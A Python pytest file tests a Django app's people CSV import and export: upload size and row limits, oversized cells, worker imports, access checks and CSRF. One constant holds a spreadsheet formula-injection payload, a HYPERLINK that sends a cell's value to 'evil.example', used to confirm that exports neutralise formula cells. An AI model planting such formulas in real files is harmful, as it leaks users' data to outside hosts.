"""People CSV uploads at their entry points (the page with CSRF enforced, the API with a
token): the size limit (413), the row limit (422), cells over the csv module's limit (a
row error, never a 500), large files imported by the worker with progress and result for
the uploader only, formula cells neutralised on export, and the command line unbounded."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from tandem.accounts.models import User
from tandem.accounts.tests.factories import UserFactory
from tandem.people import imports
from tandem.people.models import PeopleImport, Profile

pytestmark = pytest.mark.django_db

IMPORT = "/api/v1/people/import"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _rows(n: int, start: int = 0) -> str:
    lines = ["email,first_name,capacity"]
    lines += [f"person{i}@example.com,Person{i},{i % 5}" for i in range(start, start + n)]
    return "\n".join(lines) + "\n"


def _upload(text: str | bytes, name: str = "people.csv") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, text.encode() if isinstance(text, str) else text)


def _grant(user: User) -> User:
    user.user_permissions.add(
        Permission.objects.get(content_type__app_label="people", codename="import_people")
    )
    return user


@pytest.fixture
def importer(manager):
    return _grant(manager)


# --- Size: 413 ------------------------------------------------------------------------------


def test_a_request_over_the_upload_limit_is_413_before_it_is_read(
    importer, csrf_client_for, token_client_for, settings
):
    settings.TANDEM_MAX_UPLOAD_SIZE = 1000
    big = _rows(5000)  # well over the limit and the room left for the other form fields
    page = csrf_client_for(importer).post(reverse("people:import"), {"file": _upload(big)})
    assert page.status_code == 413
    assert "The file is too large: upload at most" in page.content.decode()
    api = csrf_client_for(importer).post(IMPORT, {"file": _upload(big)})
    assert api.status_code == 413
    assert api.json()["detail"].startswith("The file is too large")
    assert not User.objects.filter(email__startswith="person").exists()


def test_a_file_over_the_limit_is_413_even_when_the_request_is_small(
    importer, csrf_client_for, token_client_for, settings
):
    settings.TANDEM_MAX_UPLOAD_SIZE = 100
    data = _rows(10)
    assert 100 < len(data) < 1000
    page = csrf_client_for(importer).post(reverse("people:import"), {"file": _upload(data)})
    assert page.status_code == 413
    assert "upload at most" in page.content.decode()
    api = csrf_client_for(importer).post(IMPORT, {"file": _upload(data)})
    assert api.status_code == 413
    assert not User.objects.filter(email__startswith="person").exists()


# --- Rows: 422 ------------------------------------------------------------------------------


def test_more_rows_than_allowed_is_422_and_nothing_is_written(
    importer, csrf_client_for, token_client_for, settings
):
    settings.TANDEM_IMPORT_MAX_ROWS = 5
    data = _rows(6)
    page = csrf_client_for(importer).post(reverse("people:import"), {"file": _upload(data)})
    assert page.status_code == 422
    assert "more than 5 rows" in page.content.decode()
    api = csrf_client_for(importer).post(IMPORT, {"file": _upload(data)})
    assert api.status_code == 422
    assert "more than 5 rows" in api.json()["errors"][0]["message"]
    assert not User.objects.filter(email__startswith="person").exists()
    ok = csrf_client_for(importer).post(IMPORT, {"file": _upload(_rows(5))})
    assert ok.status_code == 200 and ok.json()["created"] == 5


def test_every_bad_row_is_reported_with_line_and_column_and_nothing_written(
    importer, csrf_client_for
):
    data = "email,capacity,paused\na@example.com,lots,no\nb@example.com,1,perhaps\nnope,1,no\n"
    response = csrf_client_for(importer).post(reverse("people:import"), {"file": _upload(data)})
    assert response.status_code == 422
    html = response.content.decode()
    assert "Nothing was imported: 3 problems to fix" in html
    for line, column in ((2, "capacity"), (3, "paused"), (4, "email")):
        assert f"<td>{line}</td><td>{column}</td>" in html
    assert not User.objects.filter(email__in=["a@example.com", "b@example.com"]).exists()


def test_the_upload_page_needs_the_csrf_token(importer, csrf_client_for):
    client = csrf_client_for(importer)
    response = client.post(reverse("people:import"), {"file": _upload(_rows(1))}, without_csrf=True)
    assert response.status_code == 403
    assert not User.objects.filter(email="person0@example.com").exists()


# --- Cells over the csv module's limit ------------------------------------------------------


def test_a_cell_over_the_field_limit_is_a_row_error_not_a_500(
    importer, csrf_client_for, token_client_for
):
    big = "x" * (csv.field_size_limit() + 10)
    data = f"email,bio\na@example.com,short\nb@example.com,{big}\nc@example.com,fine\n"
    api = csrf_client_for(importer).post(IMPORT, {"file": _upload(data)})
    assert api.status_code == 422
    errors = api.json()["errors"]
    assert [(e["line"], e["column"]) for e in errors] == [(3, "")]
    assert "longer than 131,072 characters" in errors[0]["message"]
    page = csrf_client_for(importer).post(reverse("people:import"), {"file": _upload(data)})
    assert page.status_code == 422
    assert "longer than 131,072 characters" in page.content.decode()
    assert not User.objects.filter(email__in=["a@example.com", "c@example.com"]).exists()


# --- Large files: the worker ----------------------------------------------------------------


def test_a_large_upload_is_imported_by_the_worker_and_the_uploader_follows_it(
    importer, csrf_client_for, settings, django_capture_on_commit_callbacks
):
    settings.TANDEM_IMPORT_SYNC_ROWS = 3
    client = csrf_client_for(importer)
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(reverse("people:import"), {"file": _upload(_rows(4))})
    job = PeopleImport.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("people:import_status", args=[job.pk])
    # Nothing is imported in the web request; the task is enqueued on commit.
    assert not User.objects.filter(email__startswith="person").exists()
    assert len(callbacks) == 1
    queued = client.get(response["Location"])
    assert "Waiting to start" in queued.content.decode()
    assert "0 of 4 rows checked" in queued.content.decode()
    callbacks[0]()  # the worker runs it (tasks run at once in tests)
    job.refresh_from_db()
    assert job.status == PeopleImport.Status.DONE and job.created == 4
    assert job.data == b""  # the file is not kept once imported
    assert User.objects.filter(email__startswith="person").count() == 4
    done = client.get(reverse("people:import_status", args=[job.pk]))
    assert "Imported 4 rows: 4 new, 0 updated, 0 unchanged." in done.content.decode()
    partial = client.get(reverse("people:import_status", args=[job.pk]), HTTP_HX_REQUEST="true")
    assert "<h1>" not in partial.content.decode() and "hx-get" not in partial.content.decode()


def test_the_api_answers_202_and_the_status_shows_progress_then_the_result(
    importer, csrf_client_for, token_client_for, settings, django_capture_on_commit_callbacks
):
    settings.TANDEM_IMPORT_SYNC_ROWS = 3
    with django_capture_on_commit_callbacks(execute=True):
        response = csrf_client_for(importer).post(IMPORT, {"file": _upload(_rows(4))})
    assert response.status_code == 202
    body = response.json()
    assert body["total_rows"] == 4 and body["status"] == "queued"
    status = token_client_for(importer).get(body["status_url"])
    assert status.status_code == 200
    assert status.json()["status"] == "done"
    assert status.json()["created"] == 4 and status.json()["percent"] == 100


def test_a_large_file_with_bad_rows_fails_in_the_worker_with_every_problem(
    importer, csrf_client_for, token_client_for, settings, django_capture_on_commit_callbacks
):
    settings.TANDEM_IMPORT_SYNC_ROWS = 2
    data = _rows(3) + "bad-email,X,1\nz@example.com,Z,lots\n"
    with django_capture_on_commit_callbacks(execute=True):
        response = csrf_client_for(importer).post(IMPORT, {"file": _upload(data)})
    status = token_client_for(importer).get(response.json()["status_url"]).json()
    assert status["status"] == "failed"
    assert [(e["line"], e["column"]) for e in status["errors"]] == [(5, "email"), (6, "capacity")]
    assert not User.objects.filter(email__startswith="person").exists()


def test_the_worker_writes_messages_in_the_uploaders_language(
    mentor, settings, django_capture_on_commit_callbacks
):
    _grant(mentor)  # mentor's language is Indonesian
    settings.TANDEM_IMPORT_SYNC_ROWS = 1
    data = "email,paused\na@example.com,no\nb@example.com,perhaps\n"
    from tandem.core.tests.clients import csrf_client_for

    client = csrf_client_for(mentor)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(IMPORT, {"file": _upload(data)})
    status = client.get(response.json()["status_url"]).json()
    assert status["errors"][0]["message"].startswith("Tulis true atau false")


def test_running_an_import_twice_does_nothing_twice(importer, settings):
    settings.TANDEM_IMPORT_SYNC_ROWS = 1
    job = PeopleImport.objects.create(
        uploaded_by=importer, data=_rows(3).encode(), total_rows=3, filename="p.csv"
    )
    assert imports.people_import_run(import_id=job.pk) == "done"
    Profile.objects.filter(user__email="person1@example.com").update(capacity=9)
    assert imports.people_import_run(import_id=job.pk) == "skipped"
    assert Profile.objects.get(user__email="person1@example.com").capacity == 9
    assert imports.people_import_run(import_id=job.pk + 1000) == "skipped"


def test_only_the_uploader_sees_an_import(importer, outsider, csrf_client_for, token_client_for):
    job = PeopleImport.objects.create(uploaded_by=importer, total_rows=3, filename="p.csv")
    other_importer = _grant(UserFactory(email="other-importer@example.com"))
    for user in (outsider, other_importer):
        page = csrf_client_for(user).get(reverse("people:import_status", args=[job.pk]))
        assert page.status_code == 404
        api = token_client_for(user).get(f"/api/v1/people/imports/{job.pk}")
        assert api.status_code == 404
    assert (
        csrf_client_for(importer).get(reverse("people:import_status", args=[job.pk])).status_code
        == 200
    )


def test_outsiders_cannot_upload(outsider, csrf_client_for, token_client_for):
    page = csrf_client_for(outsider).post(reverse("people:import"), {"file": _upload(_rows(1))})
    assert page.status_code == 404
    api = csrf_client_for(outsider).post(IMPORT, {"file": _upload(_rows(1))})
    assert api.status_code == 404
    assert not User.objects.filter(email="person0@example.com").exists()


# --- The command line -----------------------------------------------------------------------


def test_the_command_line_imports_at_once_with_no_row_limit(tmp_path, settings):
    settings.TANDEM_IMPORT_MAX_ROWS = 2
    settings.TANDEM_IMPORT_SYNC_ROWS = 1
    path = tmp_path / "people.csv"
    path.write_text(_rows(5), encoding="utf-8")
    out = io.StringIO()
    call_command("import", "people", str(path), stdout=out)
    assert "Imported 5 rows: 5 created" in out.getvalue()
    assert User.objects.filter(email__startswith="person").count() == 5
    assert not PeopleImport.objects.exists()


# --- Formula cells in the people export -----------------------------------------------------


def test_the_people_export_neutralises_formula_cells_and_imports_back_unchanged(
    importer, csrf_client_for, token_client_for, tmp_path
):
    UserFactory(email="formula@example.com", full_name=f"{FORMULA} Smith")
    Profile.objects.update_or_create(
        user=User.objects.get(email="formula@example.com"),
        defaults={"headline": "-1 is my lucky number", "bio": "@everyone hello"},
    )
    downloads = [
        b"".join(csrf_client_for(importer).get(reverse("people:export")).streaming_content),
        b"".join(token_client_for(importer).get("/api/v1/people/export").streaming_content),
    ]
    path = tmp_path / "out.csv"
    call_command("export", "people", str(path))
    downloads.append(path.read_bytes())
    for body in downloads:
        rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        row = next(r for r in rows if r["email"] == "formula@example.com")
        assert row["first_name"] == "'" + FORMULA.split(" ")[0]
        assert row["headline"] == "'-1 is my lucky number"
        assert row["bio"] == "'@everyone hello"
        assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    # The quote is taken off again on import: a round trip changes nothing.
    call_command("import", "people", str(path))
    assert User.objects.get(email="formula@example.com").full_name == f"{FORMULA} Smith"
    assert Profile.objects.get(user__email="formula@example.com").bio == "@everyone hello"


def test_a_file_that_stops_being_utf8_past_the_first_block_is_a_clear_error(importer):
    from tandem.people.csv import import_people

    data = _rows(3000).encode() + b"bad@example.com,\xff\xfe,1\n"
    assert len(data) > 65536
    result = import_people(io.BytesIO(data))
    assert [(e.line, e.message) for e in result.errors] == [
        (1, "The file is not UTF-8 text. Save it as “CSV UTF-8”.")
    ]
    assert not User.objects.filter(email__startswith="person").exists()


def test_an_upload_spooled_to_disk_is_read_as_a_stream(importer, csrf_client_for, settings):
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 100  # the upload becomes a temporary file
    response = csrf_client_for(importer).post(IMPORT, {"file": _upload(_rows(20))})
    assert response.status_code == 200 and response.json()["created"] == 20
